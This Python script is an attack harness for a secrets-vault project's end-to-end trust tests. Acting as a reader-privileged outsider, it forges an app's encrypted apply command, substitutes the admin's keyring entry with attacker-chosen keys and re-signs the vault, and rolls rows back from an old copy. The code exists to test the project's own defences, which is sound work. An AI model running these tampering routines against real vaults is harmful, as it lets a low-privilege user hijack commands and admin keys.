#!/usr/bin/env python3
"""The attacks of issue 12, carried out as an outsider would: with the vault file, Python's
sqlite3 and cryptography modules and the stock `age` tool, and never the project's own code.

The attacker holds at most a *reader* identity. It knows the file format from the README and
the source, as anyone could. Each subcommand edits the vault file in place and prints one line
saying what it did; the end-to-end tests in Tests/EndToEndTests/TrustAttackTests.swift then run
the admin's commands against the result. VAULT (and OLD_COPY) may also be a vault on PostgreSQL:
a `postgresql://` URL, whose rows it reads and writes with the stock `psql` (vault_storage.py).

  forge-command VAULT --age AGE --identity READER_ID --recipient READER --label L --old OLD --new NEW
      Decrypts app L's record with the metadata key a reader holds, replaces the consumer string
      OLD with NEW (an apply command), re-encrypts it. A format-1 vault's integrity digest is
      then recomputed with the reader-held integrity key, as the original attack did.
  substitute-keyring VAULT --age AGE --identity READER_ID --recipient READER --admin ADMIN
      Replaces the admin's keyring entry with an age file (made by `age -r ADMIN`) holding the
      real metadata key and a secret key of the attacker's choosing; prints that key in hex. In
      a format-2 vault the attacker then re-tags every row, puts its own authority key in the
      authority table and re-signs the digest with keys derived from its own secret key, so the
      file is self-consistent under the attacker's keys: only the admin's pin can tell.
  restore-row VAULT --from OLD_COPY --label L --age AGE --identity READER_ID --recipient READER
      Copies app L's row (every column, its tag too) back from an older copy of the file. A
      format-1 digest is recomputed; a format-2 digest is signed and cannot be.
"""
import argparse
import hashlib
import hmac
import os
import struct
import subprocess
import sys

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from vault_storage import connect, table_names

MAGIC = b"secrets-keyring-v1\n"
# The columns each table's digest covers, in order (README: "Vault file format").
COLUMNS = {
    "keyring": ["id", "role", "recipient", "name", "wrapped", "created_at"],
    "apps": ["id", "label_hash", "app_id_hash", "meta", "created_at", "updated_at"],
    "credentials": ["id", "app", "key_id_hash", "state", "expires_at", "created_at", "meta", "secret"],
    "audit": ["seq", "at", "action", "outcome", "details", "prev_hash", "hash"],
    "rotations": ["id", "app", "kind", "step", "status", "started_at", "updated_at", "revision", "meta"],
    "tenant_syncs": ["id", "updated_at", "meta"],
}
KEY_COLUMN = {"keyring": "id", "apps": "id", "credentials": "id", "audit": "seq", "rotations": "id", "tenant_syncs": "id"}


def derive(key, vault_id, purpose):
    return HKDF(algorithm=hashes.SHA256(), length=32, salt=vault_id, info=b"secrets v1 " + purpose.encode()).derive(key)


def length_prefixed(data):
    return struct.pack(">I", len(data)) + data


def associated_data(vault_id, table, column, row_id, bound=()):
    out = b"secrets/v1" + vault_id + length_prefixed(table.encode()) + length_prefixed(column.encode())
    for value in bound:
        out += length_prefixed(value)
    return out + row_id


def open_column(key, stored, aad):
    assert stored[0] == 1, "unknown column format"
    return AESGCM(key).decrypt(stored[1:13], stored[13:], aad)


def seal_column(key, plaintext, aad):
    nonce = os.urandom(12)
    return b"\x01" + nonce + AESGCM(key).encrypt(nonce, plaintext, aad)


def row_message(table, row):
    message = table.encode() + b"\x00"
    for column in COLUMNS[table]:
        value = row[column]
        if value is None:
            message += b"\x00"
        elif isinstance(value, int):
            message += b"\x01" + struct.pack(">q", value)
        elif isinstance(value, float):
            message += b"\x02" + struct.pack(">d", value)
        elif isinstance(value, str):
            message += b"\x03" + length_prefixed(value.encode())
        else:
            message += b"\x04" + length_prefixed(bytes(value))
    return message


def tables(db):
    present = table_names(db)
    return [table for table in COLUMNS if table in present]


def xor(a, b):
    return bytes(x ^ y for x, y in zip(a, b))


class Vault:
    def __init__(self, path):
        self.db = connect(path)
        row = self.db.execute("SELECT * FROM vault WHERE id = 1").fetchone()
        self.vault_id = row["vault_id"]
        self.format = row["format"]
        self.counter = row["counter"]

    def unwrap(self, age, identity, recipient):
        """The keyring entry of `recipient`, decrypted with the stock age tool."""
        wrapped = self.db.execute("SELECT wrapped FROM keyring WHERE recipient = ?", (recipient,)).fetchone()[0]
        plain = subprocess.run([age, "-d", "-i", identity], input=wrapped, capture_output=True, check=True).stdout
        assert plain.startswith(MAGIC), "not a keyring entry"
        offset = len(MAGIC)
        self.role, self.generation = plain[offset], plain[offset + 1:offset + 5]
        assert plain[offset + 5:offset + 21] == self.vault_id, "entry of another vault"
        self.metadata_key = plain[offset + 21:offset + 53]
        self.metadata_cipher = derive(self.metadata_key, self.vault_id, "metadata encryption")
        self.lookup_key = derive(self.metadata_key, self.vault_id, "lookup")
        self.integrity_key = derive(self.metadata_key, self.vault_id, "integrity")

    def app_row(self, label):
        label_hash = hmac.new(self.lookup_key, b"label\x00" + label.lower().encode(), hashlib.sha256).digest()
        row = self.db.execute("SELECT * FROM apps WHERE label_hash = ?", (label_hash,)).fetchone()
        assert row is not None, f"no app {label}"
        return row

    def reseal_format1_digest(self):
        """What a reader could do to a format-1 vault: recompute and re-MAC its digest."""
        digest = bytes(32)
        for table in tables(self.db):
            for row in self.db.execute(f"SELECT * FROM {table}"):
                digest = xor(digest, hmac.new(self.integrity_key, row_message(table, row), hashlib.sha256).digest())
        seal = hmac.new(self.integrity_key, b"secrets/v1 digest" + self.vault_id + digest + struct.pack(">q", self.counter), hashlib.sha256).digest()
        self.db.execute("UPDATE vault SET digest = ?, seal = ? WHERE id = 1", (digest, seal))

    def resign_format2(self, secret_key):
        """Re-tags every row and re-signs the digest with keys derived from `secret_key`."""
        auth_key = derive(secret_key, self.vault_id, "admin row authentication")
        authority = Ed25519PrivateKey.from_private_bytes(derive(secret_key, self.vault_id, "authority signing key"))
        public = authority.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        digest = bytes(32)
        for table in tables(self.db):
            for row in self.db.execute(f"SELECT * FROM {table}").fetchall():
                message = row_message(table, row)
                tag = hmac.new(auth_key, b"secrets/v2 row\x00" + message, hashlib.sha256).digest()
                digest = xor(digest, hashlib.sha256(b"secrets/v2 element\x00" + tag + message).digest())
                key = KEY_COLUMN[table]
                self.db.execute(f"UPDATE {table} SET auth = ? WHERE {key} = ?", (tag, row[key]))
        # The authority table too, so that it ends with the attacker's key at the current generation.
        generation = struct.unpack(">I", self.generation)[0]
        self.db.execute("UPDATE authority SET public_key = ? WHERE generation = ?", (public, generation))
        signed = b"secrets/v2 digest\x00" + self.vault_id + public + digest + struct.pack(">q", self.counter)
        self.db.execute(
            "UPDATE vault SET digest = ?, seal = ?, authority = ? WHERE id = 1", (digest, authority.sign(signed), public))


def forge_command(args):
    vault = Vault(args.vault)
    vault.unwrap(args.age, args.identity, args.recipient)
    row = vault.app_row(args.label)
    aad = associated_data(vault.vault_id, "apps", "meta", row["id"], [row["label_hash"], row["app_id_hash"]])
    record = open_column(vault.metadata_cipher, row["meta"], aad)
    old, new = args.old.encode(), args.new.encode()
    at = record.find(length_prefixed(old))
    assert at >= 0, "the old consumer is not in the record"
    record = record[:at] + length_prefixed(new) + record[at + 4 + len(old):]
    vault.db.execute("UPDATE apps SET meta = ? WHERE id = ?", (seal_column(vault.metadata_cipher, record, aad), row["id"]))
    if vault.format == 1:
        vault.reseal_format1_digest()
    vault.db.commit()
    print(f"forged app {args.label} (row {row['id'].hex()}) in a format-{vault.format} vault")


def substitute_keyring(args):
    vault = Vault(args.vault)
    vault.unwrap(args.age, args.identity, args.recipient)
    secret_key = os.urandom(32)
    plaintext = MAGIC + b"\x01" + vault.generation + vault.vault_id + vault.metadata_key + secret_key
    wrapped = subprocess.run([args.age, "-r", args.admin], input=plaintext, capture_output=True, check=True).stdout
    vault.db.execute("UPDATE keyring SET wrapped = ? WHERE recipient = ?", (wrapped, args.admin))
    if vault.format == 1:
        vault.reseal_format1_digest()
    else:
        vault.resign_format2(secret_key)
    vault.db.commit()
    print(secret_key.hex())


def restore_row(args):
    vault = Vault(args.vault)
    vault.unwrap(args.age, args.identity, args.recipient)
    old = connect(args.source)
    label_hash = vault.app_row(args.label)["label_hash"]
    row = old.execute("SELECT * FROM apps WHERE label_hash = ?", (label_hash,)).fetchone()
    assert row is not None, "the old copy has no such app"
    columns = [column for column in row.keys() if column != "id"]
    vault.db.execute(
        "UPDATE apps SET " + ", ".join(f"{column} = ?" for column in columns) + " WHERE id = ?",
        [row[column] for column in columns] + [row["id"]])
    if vault.format == 1:
        vault.reseal_format1_digest()
    vault.db.commit()
    print(f"restored app {args.label} (row {row['id'].hex()}) from {args.source}")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    commands = parser.add_subparsers(dest="command", required=True)
    for name, handler in [("forge-command", forge_command), ("substitute-keyring", substitute_keyring), ("restore-row", restore_row)]:
        command = commands.add_parser(name)
        command.set_defaults(handler=handler)
        command.add_argument("vault")
        command.add_argument("--age", required=True)
        command.add_argument("--identity", required=True, help="the reader's age identity file")
        command.add_argument("--recipient", required=True, help="the reader's public key")
        if name == "forge-command":
            command.add_argument("--label", required=True)
            command.add_argument("--old", required=True)
            command.add_argument("--new", required=True)
        elif name == "substitute-keyring":
            command.add_argument("--admin", required=True, help="the admin's public key")
        else:
            command.add_argument("--from", dest="source", required=True)
            command.add_argument("--label", required=True)
    args = parser.parse_args()
    args.handler(args)


if __name__ == "__main__":
    sys.exit(main())
